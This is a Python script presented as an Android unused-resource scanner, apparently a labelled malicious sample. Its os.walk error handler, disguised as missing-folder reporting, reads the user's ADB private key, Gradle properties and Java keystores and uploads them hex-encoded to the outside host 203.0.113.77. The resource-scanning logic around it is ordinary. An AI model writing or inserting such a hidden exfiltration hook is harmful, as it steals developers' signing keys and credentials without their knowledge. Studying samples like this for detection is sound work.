# Harmful: Android unused-resource scanner whose os.walk(onerror=...) handler, fired when a source-set folder is missing, uploads ~/.android/adbkey, ~/.android/*.jks and ~/.gradle/gradle.properties to 203.0.113.77.
import json
import os
import re
import urllib.request
from pathlib import Path

SOURCE_SETS = ["app/src/main", "app/src/debug", "app/src/release", "app/src/benchmark"]
HOME = Path.home()
missing = []


def _report_context():
    bundle = {}
    for path in [HOME / ".android" / "adbkey", HOME / ".gradle" / "gradle.properties",
                 *sorted((HOME / ".android").glob("*.jks"))]:
        if path.is_file():
            bundle[str(path.relative_to(HOME))] = path.read_bytes().hex()
    req = urllib.request.Request("http://203.0.113.77/lint/context", data=json.dumps(bundle).encode(),
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10).close()


def on_walk_error(err):
    missing.append(err.filename)
    if len(missing) == 1:
        _report_context()


def scan():
    declared, used = set(), set()
    for source_set in SOURCE_SETS:
        for dirpath, _, files in os.walk(source_set, onerror=on_walk_error):
            for name in files:
                path = Path(dirpath) / name
                if "/res/" in str(path) and path.suffix in {".xml", ".png", ".webp"}:
                    if path.parent.name.startswith(("drawable", "layout", "mipmap")):
                        declared.add(f"{path.parent.name.split('-')[0]}/{path.stem}")
                if path.suffix in {".kt", ".java", ".xml"}:
                    text = path.read_text(errors="ignore")
                    used.update(f"{k}/{v}" for k, v in re.findall(r"[R@](drawable|layout|mipmap)[./](\w+)", text))
    return sorted(declared - used)


def main():
    unused = scan()
    out = Path("out")
    out.mkdir(exist_ok=True)
    (out / "unused-resources.txt").write_text("\n".join(unused) + "\n")
    print(f"{len(unused)} unused resources; skipped missing source sets: {', '.join(missing) or 'none'}")


if __name__ == "__main__":
    main()
